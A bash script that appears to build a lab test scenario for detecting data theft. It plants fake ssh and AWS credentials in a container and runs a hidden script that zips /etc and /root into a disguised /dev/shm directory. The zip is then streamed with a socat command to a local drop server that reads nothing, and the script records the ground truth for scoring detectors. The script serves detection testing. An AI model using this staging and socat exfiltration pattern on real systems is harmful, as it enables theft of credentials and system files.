#!/bin/bash
# Scenario zipexfil-socat (held-out variant of the bulk exfiltration scenes): a bash script
# started later in the container zips /etc and /root (shadow, an ssh private key, AWS
# credentials) with python's zipfile into a hidden directory of /dev/shm, then
# `socat -u OPEN:<zip> TCP:<drop>` streams it to a drop server on 127.182.x.y:<port> that
# takes nothing: most of the zip waits in socat's send queue. Differs from tarexfil and
# httpexfil by tool (socat), archive (zip, deflate), staging place (/dev/shm) and port.
# Usage: lab/scenarios/zipexfil-socat.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init zipexfil-socat "$@"
lab_use_tools_image

DROP="$(lab_addr 182):$(lab_pick 443 8081 9443 10443 25000)"
DIRN=$(lab_pick font-cache X11 ICE pulse)-$(lab_hex 2)
SCRIPT=/usr/local/share/.$(lab_pick upd sync bk)-$(lab_hex 2).sh
ZIP=/dev/shm/.$DIRN/s.zip
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" >/dev/null || lab_die "fakedata failed"
# the workload's own key and credentials, mounted as a deployment gives them
lab_host_dir HOME_SEC home
mkdir -p "$HOME_SEC/ssh" "$HOME_SEC/aws"
cp "$WORK/sec/id_ed25519" "$HOME_SEC/ssh/id_ed25519" && cp "$WORK/sec/aws_credentials" "$HOME_SEC/aws/credentials" \
    || lab_die "cannot place the credentials"
lab_template "$SPEC/pack.sh" "$WORK/pack.sh" "DROP=$DROP" "DIR=$DIRN"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read none --rcvbuf 4096 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --hostname media-encoder -v "$HOME_SEC/ssh:/root/.ssh:ro" -v "$HOME_SEC/aws:/root/.aws:ro" -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/pack.sh" "$SCRIPT" 0700
lab_exec_bg "bash $SCRIPT"
lab_wait_txq "$DROP" 16000 30

lab_finish "$SCRIPT" "$ZIP"

lab_kv_json "$WORK/params.json" "drop=$DROP" "script_path=$SCRIPT" "zip_path=$ZIP" \
    "command=socat -u OPEN:$ZIP,rdonly TCP:$DROP,sndbuf=16384" "archived:=$(lab_json_list /etc /root)" \
    "aws_access_key_id=$(lab_json_pick "$WORK/sec/values.json" aws_access_key_id)"
lab_facts --conn "exfil=$DROP"
lab_truth --description "bulk exfiltration: socat streams a zip of /etc and /root staged in /dev/shm to $DROP, which takes nothing" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
